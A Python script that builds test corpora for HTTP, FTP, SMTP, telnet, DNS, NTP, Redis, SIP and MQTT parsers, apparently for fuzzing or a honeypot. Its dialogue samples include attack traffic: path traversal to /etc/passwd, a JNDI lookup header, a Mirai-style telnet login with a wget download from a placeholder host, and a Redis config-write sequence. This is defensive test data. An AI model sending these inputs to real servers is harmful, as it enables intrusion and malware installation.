# SPDX-License-Identifier: Apache-2.0
# Makes the corpora of the text and datagram protocols; run in this folder. Nothing here was recorded.
import os
from struct import pack as P

def put(target, name, data):
    os.makedirs(target, exist_ok=True)
    with open(f"{target}/{name}", "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("latin-1"))

put("wire/line_splitter", "lines", "one\r\ntwo\n\r\n" + "x" * 40 + "\r\nrest")
put("wire/reply_line", "reply", "220-vsFTPd")
put("wire/reply_line", "command", "USER anonymous")
put("wire/http_message", "get", "GET /a%2fb HTTP/1.1\r\nHost: a\r\nUser-Agent: b c\r\n\r\nGET / HTTP/1.0\r\n\r\n")
put("wire/http_message", "chunks", "POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\nT: t\r\n\r\nGET /\r\n")
put("wire/http_message", "length", "PUT /d HTTP/1.1\r\nContent-Length: 4\r\n\r\nbodyHEAD / HTTP/1.1\r\n bad\r\n\r\n")
put("wire/http_message", "status", "HTTP/1.1 404 Not Found")
put("wire/telnet", "session", b"\xff\xfd\x01\xff\xfa\x18\x00xterm\xff\xff\xff\xf0root\xff\xf1\r\x00\xff\xff\r\n")
query = P(">HHHHHH", 7, 0x100, 1, 0, 0, 1) + b"\7example\3com\0" + P(">HH", 255, 1) + b"\0" + P(">HHIH", 41, 4096, 0x8000, 0)
put("wire/dns", "query", query)
put("wire/dns", "pointers", P(">HHHHHH", 7, 0, 2, 1, 0, 0) + b"\1a\0" + P(">HH", 1, 1) + b"\1b\xc0\x0c" + P(">HH", 16, 3) + b"\xc0\x13" + P(">HHIH", 1, 1, 60, 4) + b"\xc0\0\2\1")
put("wire/ntp", "client", b"\x23" + bytes(39) + P(">Q", 0xE000000080000000))
put("wire/ntp", "private", b"\x17\0\3\x2a\0\0\0\0"); put("wire/ntp", "control", b"\x16\2" + bytes(10))
put("wire/resp", "array", "*2\r\n$4\r\nLLEN\r\n$6\r\nmylist\r\n*0\r\nping\r\n")
put("wire/resp", "inline", "set a \"q \\x41\\n\" 'it\\'s'\r\n*1\r\n$99999\r\nx")
put("wire/sip", "options", "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nv: SIP/2.0/UDP 192.0.2.2;branch=z9hG4bK1\r\nTo: <sip:100@a>\r\nX: y\r\n z\r\nl: 2\r\n\r\nbody")
text = lambda s: P(">H", len(s)) + s
put("wire/mqtt", "body", text(b"MQTT") + b"\4\xce\0\x0a" + text(b"id") + text(b"will") + text(b"gone") + text(b"user") + text(b"word"))
put("wire/mqtt", "body_5", text(b"MQTT") + b"\5\2\0\x3c\5\x11\0\0\0\x0a" + text(b"c"))
connect = text(b"MQTT") + b"\4\2\0\x3c" + text(b"c")
put("wire/mqtt", "stream", b"\x10" + bytes([len(connect)]) + connect + b"\x82\6\0\1" + text(b"#") + b"\0\x30\xc8\1" + bytes(200) + b"\xe0\0")
put("wire/mqtt", "subscribe", b"\0\1\0" + text(b"a/#") + b"\1" + text(b"$SYS/#") + b"\0")
put("wire/ftp_address", "port", "192,0,2,7,31,144"); put("wire/ftp_address", "eprt", "|2|2001:db8::1|5282|")
put("wire/smtp_path", "from", "FROM:<@a,@b:c@d.example> SIZE=5"); put("wire/smtp_path", "plain", "AHRpbQB0YW5zdGFhZg==")

# Sessions and conversations: one byte before (the persona, or the client's share), then what a client sends.
dialogues = {
    "http": "POST /login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\na=b\r\n0\r\n\r\nGET /manager/html HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YTpi\r\n\r\nGET /a?x=../../etc/passwd HTTP/1.0\r\nX: ${jndi:x}\r\n\r\n",
    "ftp": "USER anonymous\r\nPASS a@b\r\nSYST\r\nPORT 192,0,2,7,0,25\r\nSTOR x\r\nQUIT\r\n",
    "smtp": "EHLO a\r\nAUTH PLAIN AGEAYg==\r\nAUTH LOGIN\r\nYQ==\r\nYg==\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nQUIT\r\n",
    "telnet": "\xff\xfd\x01root\r\nxc3511\r\nenable\r\nsh\r\n/bin/busybox ECCHI; wget http://192.0.2.1/x\r\necho -e '\\x7f' > f; cat f\r\n",
    "redis": "INFO\r\n*3\r\n$3\r\nSET\r\n$1\r\na\r\n$4\r\nx\r\ny\r\nconfig set dir /root\r\nsave\r\nnope \"q\" 2\r\n*x\r\n",
}
replies = {"http": "HTTP/1.1 401 No\r\nContent-Length: 2\r\n\r\nab", "ftp": "220 a\r\n331 b\r\n530 c\r\n", "smtp": "220 a\r\n250-b\r\n250 c\r\n535 d\r\n",
           "telnet": "login: Password: \r\nLogin incorrect\r\n# ", "redis": "$2\r\nab\r\n+OK\r\n-ERR no\r\n"}
for name, said in dialogues.items():
    put(f"dialogue/{name}_decoy", "client", "\0" + said); put(f"dialogue/{name}_decoy", "other", "\1" + said)
    share = round(255 * len(said) / (len(said) + len(replies[name])))
    put(f"recognition/{name}_conversation", "client", "\xff" + said); put(f"recognition/{name}_conversation", "both", chr(share) + said + replies[name])
stream = b"\x10" + bytes([len(connect)]) + connect + b"\x82\6\0\1" + text(b"#") + b"\0\x32\5" + text(b"a") + b"\0\7\xe0\0"
put("dialogue/mqtt_decoy", "client", b"\0" + stream); put("recognition/mqtt_conversation", "client", b"\xff" + stream); put("recognition/mqtt_conversation", "both", b"\xe0" + stream + b"\x20\2\0\0")
sip = "REGISTER sip:192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.2;branch=z9hG4bK1\r\nTo: <sip:1@a>\r\nFrom: <sip:1@a>;tag=2\r\nCall-ID: 3\r\nCSeq: 1 REGISTER\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\nX: " + "y" * 200 + "\r\n\r\n"
for name, data in {"dns": query, "ntp": b"\x23" + bytes(39) + P(">Q", 0xE000000080000000), "sip": sip.encode()}.items():
    put(f"dialogue/{name}_answer", "query", data); put(f"recognition/{name}_conversation", "query", b"\xff" + data)
